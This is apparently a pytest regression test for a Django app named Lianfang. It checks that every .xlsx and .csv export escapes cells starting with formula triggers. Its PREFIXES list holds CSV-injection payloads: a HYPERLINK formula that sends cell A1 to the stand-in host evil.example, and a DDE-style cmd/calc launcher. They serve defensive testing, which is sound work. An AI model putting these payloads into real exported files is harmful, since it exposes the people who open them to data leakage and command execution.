"""Every export is safe to open (issue 11): text that a spreadsheet would run as a formula — a cell that
starts with = + - @ a tab or a carriage return — comes out with a leading ' in every .xlsx and .csv
file Lianfang hands out, whatever app writes it, because they all go through one writer
(lianfang/core/exports.py).

One test: the demo group is loaded, every free-text name in the database (people, units, items,
donors, funds, collections, cases, risk areas …) is replaced by a hostile value, and every export in
the URL conf (pages and API) is downloaded and read back cell by cell.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re

import pytest
from django.apps import apps
from django.db import DatabaseError, models, transaction
from django.db.models import CharField, TextField, Value
from django.db.models.functions import Cast, Concat
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from lianfang.core.exports import FORMULA_TRIGGERS
from lianfang.org.choices import Role
from lianfang.org.models import RoleAssignment

pytestmark = pytest.mark.django_db(transaction=False)

# Hostile values, one prefix per model so that every trigger is fed somewhere; a number follows so
# that unique names stay unique.
PREFIXES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*",
    "\t=1+",
    "\r=1+",
]
# An .xlsx file stores a carriage return as a line feed (XML line-end normalisation): read back, a cell
# written as "\r=1+" starts with "\n".
TRIGGERS = (*FORMULA_TRIGGERS, "\n")
NUMBER = re.compile(r"-\d+(\.\d+)?")
# Fields that hold codes, keys, numbers or machine values, not free text a person types as a name.
SKIP = re.compile(
    r"code|phone|id_number|digest|path|key|token|hash|username|password|email|url|slug|number|status|kind|unit_no|employee_no|lang|secret|sha|mime|content_type|file|ip|method|field|source|action|channel|model"
)


def _poison_free_text() -> None:
    """Every free-text CharField/TextField of every Lianfang model starts with a formula trigger."""
    n = 0
    for model in apps.get_models():
        if not model.__module__.startswith("lianfang.") or model._meta.proxy or not model._meta.managed:
            continue
        if model._meta.app_label in ("core", "privacy", "accounts"):
            continue  # the audit trail, jobs, consent records, sign-ins: append-only, and no export writes them
        for field in model._meta.concrete_fields:
            if not isinstance(field, CharField | TextField) or field.choices or SKIP.search(field.name):
                continue
            if type(field).__name__ != "CharField" and type(field).__name__ != "TextField":
                continue  # encrypted and other custom fields
            prefix = PREFIXES[n % len(PREFIXES)]
            n += 1
            room = (field.max_length or 200) - 12
            if room < 6:
                continue
            value = Concat(Value(prefix[:room]), Cast("pk", output_field=models.CharField()))
            # A check constraint (or an append-only model) refuses the value: leave it as the demo wrote it.
            with contextlib.suppress(DatabaseError, TypeError, ValueError), transaction.atomic():
                model._default_manager.exclude(**{field.name: ""}).update(**{field.name: value})


def _export_names() -> set[str]:
    found: set[str] = set()

    def walk(resolver: URLResolver, namespace: str | None) -> None:
        for p in resolver.url_patterns:
            if isinstance(p, URLResolver):
                walk(p, p.namespace or namespace)
            elif isinstance(p, URLPattern) and p.name and ("export" in p.name or "export" in str(p.pattern)):
                found.add(f"{namespace}:{p.name}")

    walk(get_resolver(), None)
    return found


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    kind = response["Content-Type"]
    if "spreadsheetml" in kind:
        from openpyxl import load_workbook

        workbook = load_workbook(io.BytesIO(body), read_only=True)
        return [
            c for ws in workbook.worksheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)
        ]
    if "csv" in kind:
        text = body.decode("utf-8-sig")
        return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    if "pdf" in kind:
        return []
    raise AssertionError(f"an export of an unknown type: {kind}")


def test_no_cell_of_any_export_starts_with_a_formula_trigger_unescaped():
    from lianfang.demo import loader as demo
    from lianfang.donations.models import Collection, Fund
    from lianfang.reporting.models import Bulletin
    from lianfang.reporting.selectors.bulletins import bulletin_figures

    demo.load()
    _poison_free_text()
    office = RoleAssignment.objects.filter(role=Role.GROUP_ADMIN, unit__depth=1).select_related("user").first().user
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(office)

    # A bulletin keeps the figures it was built with: build one from the poisoned records.
    bulletin = Bulletin.objects.order_by("-pk").first()
    Bulletin.objects.filter(pk=bulletin.pk).update(data=bulletin_figures(day=bulletin.date, root=bulletin.unit))
    collection, fund = Collection.objects.order_by("pk").first(), Fund.objects.order_by("pk").first()
    targets = {
        "people:export": reverse("people:export"),
        "people:import-template": reverse("people:import-template"),
        "health:risk-export": reverse("health:risk-export"),
        "reporting:bulletin-export": reverse("reporting:bulletin-export", args=[bulletin.pk, "xlsx"]),
        "cases:export": reverse("cases:export"),
        "materials:stock-export": reverse("materials:stock-export"),
        "materials:movements-export": reverse("materials:movements-export"),
        "materials:transfer-export": reverse("materials:transfer-export"),
        "materials:donation-export": reverse("materials:donation-export"),
        "materials:donation-report-export": reverse("materials:donation-report-export"),
        "materials:collection-export": reverse("materials:collection-export", args=[collection.pk]),
        "materials:fund-export": reverse("materials:fund-export", args=[fund.pk]),
        "api:person-export": reverse("api:person-export"),
        "api:bulletin-export": reverse("api:bulletin-export", args=[bulletin.pk, "xlsx"]),
        "api:stock-export": reverse("api:stock-export"),
        "api:movement-export": reverse("api:movement-export"),
        "api:transfer-export": reverse("api:transfer-export"),
        "api:donation-export": reverse("api:donation-export"),
        "api:donation-report-export": reverse("api:donation-report-export"),
        "api:collection-export": reverse("api:collection-export", args=[collection.pk]),
        "api:fund-export": reverse("api:fund-export", args=[fund.pk]),
    }
    # A new export must be added here, so that it is fed the hostile values too.
    assert _export_names() <= set(targets), _export_names() - set(targets)
    # Exports that hold no free text typed by a person (the empty roster template).
    without_names = {"people:import-template"}

    unescaped: list[tuple[str, str]] = []
    for name, url in targets.items():
        response = client.get(url)
        if response.status_code == 405:  # an API export that is a POST (asks for a job)
            response = client.post(url, {}, content_type="application/json")
        assert response.status_code == 200, (name, response.status_code)
        cells = _cells(response)
        assert cells, name
        # A negative number is a number, not a formula (in a CSV file every cell is text).
        unescaped += [(name, c) for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
        if name not in without_names:
            assert any(c.startswith("'") and c[1:].startswith(TRIGGERS) for c in cells), (
                f"{name} was not fed a hostile value"
            )
    assert unescaped == []
